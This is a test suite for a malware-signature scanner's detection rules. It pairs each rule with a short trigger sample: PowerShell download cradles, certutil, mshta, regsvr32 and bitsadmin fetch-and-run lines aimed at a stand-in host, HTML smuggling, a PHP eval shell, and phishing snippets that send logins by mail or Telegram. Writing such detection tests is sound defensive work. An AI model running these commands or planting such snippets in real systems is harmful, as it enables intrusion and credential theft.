import base64
import re
import threading
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bartizan.forensics.examination import Reading, Sign, Trait
from bartizan.forensics.file_signatures import TYPES
from bartizan.forensics.signatures.errors import SignatureRuleError
from bartizan.forensics.signatures.rules import (
    SEVERITIES,
    SHIPPED,
    Match,
    check_rules,
    load_rules,
    rule_files,
    signature_reader,
)

PROGRAM = bytes.fromhex("4d5a90000300000004000000ffff0000b800") + bytes(60) + (
    b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
)  # fmt: skip
CODED = base64.b64encode(PROGRAM)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"
STORE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
ISO = bytes(0x8001) + b"CD001" + bytes(100)


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


#: For every rule, something that it is about.
SAMPLES = {
    "eicar_test_file": EICAR,
    "program_in_base64": b"var p = '" + CODED + b"';",
    "program_in_double_base64": base64.b64encode(CODED),
    "program_in_hexadecimal": b"$p = '" + PROGRAM.hex().encode() + b"'",
    "program_in_reversed_base64": b"x = '" + CODED[::-1] + b"'",
    "html_smuggling_download": b"<html><script>var b=new Blob([Uint8Array.from(atob(d))]);"
    b"a.href=URL.createObjectURL(b);a.download='a.zip';a.click()</script>",
    "html_smuggling_archive": b"<script>var z='UEsDBB" + b"Q" * 300 + b"';atob(z)</script>",
    "page_written_by_unescape": b"<script>document.write(unescape('%3Cform action=x%3E'))</script>",
    "login_sent_to_telegram": b"<input type=password><script>fetch('https://api.telegram.org/bot'"
    b"+t+'/sendMessage')</script>",
    "phishing_kit_server_side": b"<?php $m=$_POST['email'].$_POST['pass'].$_SERVER['REMOTE_ADDR'];"
    b"mail($to,'Result',$m);",
    "svg_that_redirects": b"<svg xmlns='x'><script>window.location=atob('aA==')</script></svg>",
    "php_shell": b"<?php eval(base64_decode('x'));",
    "script_dropper": b'x=new ActiveXObject("MSXML2.XMLHTTP");s=new ActiveXObject("ADODB.Stream");'
    b's.SaveToFile("a.exe");new ActiveXObject("WScript.Shell").Run("a.exe")',
    "macro_downloader": b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "powershell"\r\n',
    "powershell_download_cradle": b"powershell -w hidden IEX (iwr 'https://x.test/a')",
    "powershell_encoded_command": b"powershell.exe -NoP -enc " + b"SQBFAFgA" * 10,
    "certutil_chain": b"certutil.exe -urlcache -split -f https://x.test/a a.exe",
    "mshta_chain": b"mshta.exe https://x.test/a.hta",
    "regsvr32_chain": b"regsvr32 /s /n /u /i:https://x.test/a.sct scrobj.dll",
    "bitsadmin_chain": b"bitsadmin /transfer job /download https://x.test/a.exe c:\\a.exe",
    "exploited_address_handler": b"location='search-ms:query=x&crumb=location:\\\\1.2.3.4@80\\a'",
    "shortcut_starts_interpreter": LNK + bytes(56) + wide("powershell.exe -w hidden"),
    "onenote_with_script": b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + STORE + b"<script>x</script>",
    "disk_image_with_autorun": ISO + b"A.LNK;1" + PROGRAM,
    "pdf_starts_program": b"%PDF-1.7 <</S/Launch/Win<</F(cmd.exe)>>>>",
    "pdf_opens_attachment": b"%PDF-1.7 this.exportDataObject({cName:'a', nLaunch: 2});",
    "rtf_equation_editor": b"{\\rtf1{\\object{\\*\\objdata 4571756174696F6E2E33}}}",
    "rtf_linked_object": b"{\\rtf1{\\object{\\*\\objdata 4f4c45324c696e6b}}}",
    "office_remote_script": b'<Relationship Target="mhtml:https://x.test" TargetMode="External"/>',
}
HONEST = (
    b"Hello,\r\nplease download the report and open it in PowerShell ISE or Excel.\r\n",
    b"<html><body><a href='https://x.test/download'>Download</a><script>track()</script></body>",
    b"%PDF-1.7 <</Type/Catalog/OpenAction[3 0 R/Fit]>>",
    b"{\\rtf1\\ansi Hello {\\object\\objemb{\\*\\objdata 0105000002000000}}}",
    b"<svg xmlns='x'><path d='M0 0'/></svg>",
    b"#!/bin/sh\ncurl -fsSL https://x.test/install.sh -o install.sh\n",
    b"<Relationship Target='https://x.test/' TargetMode='External'/>",
    PROGRAM,
    ISO + b"README.TXT;1",
)


@pytest.fixture(scope="module")
def rules():
    return load_rules()


def test_there_is_a_sample_for_every_rule(rules):
    names = set()
    for path in rule_files(SHIPPED):
        names |= set(re.findall(r"^rule (\w+)", path.read_text(), re.MULTILINE))
    assert names == set(SAMPLES)
    assert len(rules) == len(names)


@pytest.mark.parametrize("name", SAMPLES)
def test_each_rule_finds_what_it_is_about(rules, name):
    (match,) = [one for one in rules.matches(SAMPLES[name]) if one.name == name]
    assert match.severity in SEVERITIES
    assert len(match.description) > 15


@pytest.mark.parametrize("content", HONEST)
def test_honest_content_matches_nothing(rules, content):
    assert rules.match(content) == ()


def test_every_rule_says_where_its_idea_is_from():
    for path in rule_files(SHIPPED):
        text = path.read_text()
        assert text.count("reference = ") == text.count("\nrule ")


def test_a_reader_notes_matches_as_signs(rules):
    read = signature_reader(rules)
    sign = Sign(Trait.SIGNATURE, "high certutil_chain")
    assert read(SAMPLES["certutil_chain"], TYPES["text"], ()) == Reading(signs=(sign,))
    assert read(b"nothing", TYPES["text"], ()) is None


def test_rules_of_others_are_used_beside_ours(tmp_path):
    (tmp_path / "deep").mkdir()
    (tmp_path / "deep" / "own.yar").write_text('rule own { strings: $a = "abc" condition: $a }')
    (tmp_path / "notes.txt").write_text("not a rule")
    found = load_rules(tmp_path).matches(b"abc " + EICAR)
    assert Match("own", "medium", "") in found
    assert "eicar_test_file" in {one.name for one in found}


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (b"rule bad {\n condition:\n  unknown_thing\n}", 3),
        (b"rule bad {", 1),
        (b'include "/etc/passwd"', 1),
        (b"rule a { condition: true }\nrule a { condition: true }", 2),
    ],
)
def test_a_bad_rule_names_its_file_and_line(tmp_path, text, line):
    (tmp_path / "bad.yar").write_bytes(text)
    with pytest.raises(SignatureRuleError, match=rf"bad\.yar, line {line}:"):
        load_rules(tmp_path)


def test_what_is_no_text_is_refused(tmp_path):
    (tmp_path / "bad.yar").write_bytes(b"\xff\xfe rule")
    with pytest.raises(SignatureRuleError, match="UTF-8"):
        load_rules(tmp_path)
    with pytest.raises(SignatureRuleError, match="no folder"):
        load_rules(tmp_path / "missing")


def test_checking_a_folder_goes_on_after_a_bad_file(tmp_path):
    (tmp_path / "a.yar").write_text("rule bad {")
    (tmp_path / "b.yar").write_text("rule good { condition: true }")
    good, (wrong,) = check_rules(tmp_path)
    assert good == 1
    assert "a.yar, line 1" in wrong


def test_rules_may_be_used_in_other_threads(rules):
    found = []
    thread = threading.Thread(target=lambda: found.append(rules.match(EICAR)))
    thread.start()
    thread.join()
    assert found == [("eicar_test_file",)]


@given(st.binary(max_size=400))
def test_any_bytes_can_be_matched(rules, content):
    rules.match(content)


@pytest.mark.parametrize(
    "unit", [b"powershell -e ", b"p\0o\0w\0e\0r\0s\0h\0e\0l\0l\0", b"<script", b"mshta "]
)
def test_hostile_repeats_end(rules, unit):
    started = time.process_time()
    rules.match(unit * (2_000_000 // len(unit)))
    assert time.process_time() - started < 10
